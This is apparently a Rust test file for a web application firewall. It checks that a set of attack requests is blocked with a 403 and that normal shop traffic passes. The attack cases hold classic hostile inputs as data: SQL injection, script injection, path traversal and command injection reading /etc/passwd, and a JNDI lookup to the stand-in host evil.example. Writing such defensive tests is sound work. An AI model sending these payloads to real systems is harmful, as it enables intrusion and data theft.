//! Decisions at level 1 with the default threshold: attacks are refused, and ordinary requests are not.

use std::rc::Rc;

use waf::{Denial, Request, Waf};

use crate::support;

const BEFORE: &str =
    "SecRequestBodyAccess On\nSecAction \"id:900990,phase:1,pass,nolog,setvar:tx.crs_setup_version=400\"";

const USUAL: [(&str, &str); 3] = [
    ("Host", "shop.example.com"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
];

fn send(waf: &Rc<Waf>, method: &str, uri: &str, more: &[(&str, &str)], body: &str) -> Option<Denial> {
    let mut transaction = waf.transaction();
    let length = body.len().to_string();
    let mut headers: Vec<(&[u8], &[u8])> =
        USUAL.iter().chain(more).map(|(name, value)| (name.as_bytes(), value.as_bytes())).collect();
    if !body.is_empty() {
        headers.push((b"Content-Length", length.as_bytes()));
    }
    let request = Request {
        method: method.as_bytes(),
        uri: uri.as_bytes(),
        protocol: b"HTTP/1.1",
        headers: &headers,
        client: "192.0.2.7".parse().ok(),
        id: b"decisions",
    };
    transaction.request_headers(&request).or_else(|| transaction.request_body(body.as_bytes()))
}

#[test]
fn attacks_are_refused_and_ordinary_requests_are_not() {
    let setup = seclang::compile_folder(&support::folder().unwrap(), "", "").unwrap();
    // The setup of a release has its version already.
    let has_setup = setup.program.rules.iter().any(|rule| rule.id == 900990);
    let compiled = seclang::compile_folder(
        &support::folder().unwrap(),
        if has_setup { "SecRequestBodyAccess On" } else { BEFORE },
        "",
    );
    let program = compiled.unwrap().program;
    let waf = Waf::new(program).unwrap();
    let form = [("Content-Type", "application/x-www-form-urlencoded")];
    let json = [("Content-Type", "application/json")];
    let multipart = [("Content-Type", "multipart/form-data; boundary=----b1")];
    for (method, uri, headers, body) in [
        ("GET", "/?id=1%27%20OR%20%271%27=%271", &[][..], ""),
        ("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", &[], ""),
        ("GET", "/?file=../../../../etc/passwd", &[], ""),
        ("GET", "/?cmd=;cat%20/etc/passwd", &[], ""),
        ("GET", "/.git/config", &[], ""),
        ("GET", "/?x=%24%7Bjndi:ldap://evil.example/a%7D", &[], ""),
        ("GET", "/", &[("Cookie", "a=<script>alert(1)</script>")], ""),
        ("POST", "/", &form, "id=1+UNION+SELECT+password+FROM+users--"),
        ("POST", "/", &json, r#"{"a":[{"b":"<script>alert(document.cookie)</script>"}]}"#),
        (
            "POST",
            "/",
            &multipart,
            "------b1\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n' UNION SELECT 1,2 FROM users--\r\n------b1--\r\n",
        ),
    ] {
        let denial = send(&waf, method, uri, headers, body);
        assert_eq!(
            denial.map(|denial| (denial.rule, denial.status)),
            Some((949110, 403)),
            "{method} {uri} {body}"
        );
    }
    for (method, uri, headers, body) in [
        ("GET", "/", &[][..], ""),
        ("GET", "/products?category=garden&sort=price&page=2", &[], ""),
        ("GET", "/search?q=O%27Neill+caf%C3%A9+menu", &[], ""),
        (
            "GET",
            "/",
            &[("Cookie", "session=5f2c8e1b9a; theme=dark"), ("Referer", "https://shop.example.com/a")],
            "",
        ),
        ("POST", "/login", &form, "user=alice%40example.com&password=correct+horse+battery"),
        ("POST", "/comments", &form, "text=I+really+liked+this+lamp%2C+it+is+bright.+Thanks%21"),
        (
            "POST",
            "/api",
            &json,
            r#"{"items":[{"id":17,"count":2,"note":"please ring the bell"}],"total":34.5}"#,
        ),
        (
            "POST",
            "/upload",
            &multipart,
            "------b1\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"summer.jpg\"\r\n\
             Content-Type: image/jpeg\r\n\r\n\u{ff}\u{d8}\r\n------b1--\r\n",
        ),
    ] {
        assert_eq!(send(&waf, method, uri, headers, body), None, "{method} {uri} {body}");
    }
}
